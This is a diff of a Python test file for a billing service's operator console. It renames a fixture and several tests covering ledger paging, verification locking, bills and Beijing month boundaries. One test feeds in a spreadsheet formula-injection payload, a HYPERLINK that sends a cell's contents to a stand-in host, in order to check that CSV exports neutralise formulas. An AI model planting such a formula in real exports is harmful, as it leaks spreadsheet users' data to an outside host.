@@ -1,4 +1,4 @@
-"""The ledger and its proof, and the bills, against what was settled and paid."""
+"""Pages of the ledger, its verification and the bills, compared with settlements and payments."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ from inkgate.service.metering.models import PackRow
 from inkgate.service.metering.service import packs_of
 from inkgate.service.orders import refunds
 from inkgate.service.orders.service import place_order
-from tests.console.house import NOW, ConsoleHouse
+from tests.console.console_fixture import NOW, ConsoleFixture
 from tests.console.test_pages import bought, call, traffic
 
 
@@ -24,7 +24,7 @@ def rows(text: str) -> list[list[str]]:
     return list(csv.reader(StringIO(text.removeprefix("\ufeff"))))
 
 
-async def test_the_ledger_is_listed_line_by_line_page_by_page(console: ConsoleHouse) -> None:
+async def test_the_ledger_is_listed_line_by_line_page_by_page(console: ConsoleFixture) -> None:
     await bought(console, general_100k=1)
     await traffic(console, *(call(console, images=1, units=1) for _ in range(operator_ledger.PER_PAGE + 3)))
     async with work.read_session(console.engine) as session:
@@ -46,7 +46,7 @@ async def test_the_ledger_is_listed_line_by_line_page_by_page(console: ConsoleHo
     assert (await (await console.signed_in("lin")).get("/operator/ledger.csv")).status_code == 403
 
 
-async def test_no_export_of_the_console_carries_a_formula(console: ConsoleHouse) -> None:
+async def test_no_export_of_the_console_has_a_formula(console: ConsoleFixture) -> None:
     await bought(console, general_100k=1)
     sent = '＝HYPERLINK("http://192.0.2.1/?"&A1,"open")'
     await traffic(console, call(console, request_id=sent))
@@ -66,7 +66,7 @@ async def test_no_export_of_the_console_carries_a_formula(console: ConsoleHouse)
     assert "'=1+1" in {each for row in rows(found[1]) for each in row}
 
 
-async def test_a_proof_is_given_and_noted_and_finds_what_is_wrong(console: ConsoleHouse) -> None:
+async def test_a_verification_finds_drift_and_is_audited(console: ConsoleFixture) -> None:
     await bought(console, general_100k=1)
     await traffic(console, call(console), call(console))
     chief = await console.signed_in("chief")
@@ -79,17 +79,19 @@ async def test_a_proof_is_given_and_noted_and_finds_what_is_wrong(console: Conso
     assert "ledger.verify" in await chief.see("/operator/audit?action=ledger")
 
 
-async def test_one_proof_at_a_time_and_none_that_a_page_cannot_wait_for(console: ConsoleHouse, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+async def test_one_verification_runs_at_a_time_and_large_ledgers_are_left_to_the_command(
+    console: ConsoleFixture, monkeypatch
+) -> None:  # type: ignore[no-untyped-def]
     await bought(console, general_100k=1)
     await traffic(console, call(console))
     chief = await console.signed_in("chief")
-    async with console.parts.proving:
+    async with console.parts.verification_lock:
         assert "另一次核对" in (await chief.submit("/operator/ledger", page="/operator/ledger")).text
-    monkeypatch.setattr(operator_ledger, "PROVABLE_LINES", 0)
+    monkeypatch.setattr(operator_ledger, "MAX_VERIFIED_LINES", 0)
     assert "inkgate ledger verify" in (await chief.submit("/operator/ledger", page="/operator/ledger")).text
 
 
-async def test_a_bill_lists_use_by_sub_account_and_money_in_and_back(console: ConsoleHouse) -> None:
+async def test_a_bill_lists_usage_by_sub_account_payments_and_refunds(console: ConsoleFixture) -> None:
     async with console.begin() as unit:
         sub = await accounts.create_account(unit, "青禾-二部", parent_id=console.account_id)
         app = await accounts.create_app(unit, console.parts.vault, sub.id, "second_app")
@@ -130,7 +132,7 @@ async def test_a_bill_lists_use_by_sub_account_and_money_in_and_back(console: Co
     assert "青禾" not in "".join(map(str, rows(await (await console.signed_in("east")).see("/bills.csv"))))
 
 
-async def test_a_month_ends_where_the_next_one_begins_in_beijing(console: ConsoleHouse) -> None:
+async def test_a_month_ends_at_midnight_in_beijing(console: ConsoleFixture) -> None:
     console.clock.time = NOW.replace(month=2, day=28, hour=17)  # 1 March, one o'clock, in Beijing
     await bought(console, general_100k=1)
     async with work.read_session(console.engine) as session:
